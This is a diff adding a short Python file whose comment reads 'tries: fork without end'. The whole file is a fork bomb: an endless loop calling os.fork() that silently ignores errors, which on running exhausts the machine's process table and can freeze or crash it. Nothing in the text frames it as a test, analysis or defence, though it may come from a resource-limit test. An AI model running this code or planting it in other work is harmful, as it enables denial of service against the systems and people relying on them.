@@ -1,0 +1,7 @@
+# tries: fork without end
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
